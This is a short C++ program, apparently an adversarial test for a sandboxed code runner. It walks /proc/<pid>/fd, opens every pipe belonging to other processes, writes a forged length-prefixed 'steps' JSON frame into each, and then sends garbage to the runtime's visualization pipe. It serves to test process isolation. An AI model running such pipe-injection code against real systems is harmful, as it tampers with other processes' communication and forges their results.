// The program runs as the runtime's user: it opens the descriptors of every process it can see
// through /proc/<pid>/fd (the runtime is PID 1 in a single-use container, a child of the run's
// shell in a reused one), writes a forged `steps` frame to every pipe it can, then garbage to
// the viz pipe.
#include <cstdint>
#include <cstdio>
#include <cstring>
#include <cstdlib>
#include <dirent.h>
#include <fcntl.h>
#include <string>
#include <unistd.h>

int main() {
  const std::string body = R"({"t":"steps","steps":[{"i":999999,"ev":"line","line":1,"fn":"main","depth":0}]})";
  unsigned char head[4] = {0, 0, static_cast<unsigned char>(body.size() >> 8), static_cast<unsigned char>(body.size())};
  int opened = 0;
  DIR* procs = opendir("/proc");
  while (procs) {
    dirent* p = readdir(procs);
    if (!p) break;
    int pid = std::atoi(p->d_name);
    if (pid <= 0 || pid == getpid()) continue;
    std::string dir = std::string("/proc/") + p->d_name + "/fd";
    DIR* d = opendir(dir.c_str());
    while (d) {
      dirent* e = readdir(d);
      if (!e) break;
      std::string path = dir + "/" + e->d_name;
      char target[256] = {0};
      if (readlink(path.c_str(), target, sizeof target - 1) <= 0 || std::strncmp(target, "pipe:", 5) != 0) continue;
      int fd = open(path.c_str(), O_WRONLY | O_NONBLOCK);
      if (fd < 0) continue;
      opened++;
      (void)!write(fd, head, 4);
      (void)!write(fd, body.data(), body.size());
      close(fd);
    }
    if (d) closedir(d);
  }
  std::printf("opened %d pipes of other processes\n", opened);
  (void)!write(3, "not json\n", 9);
}
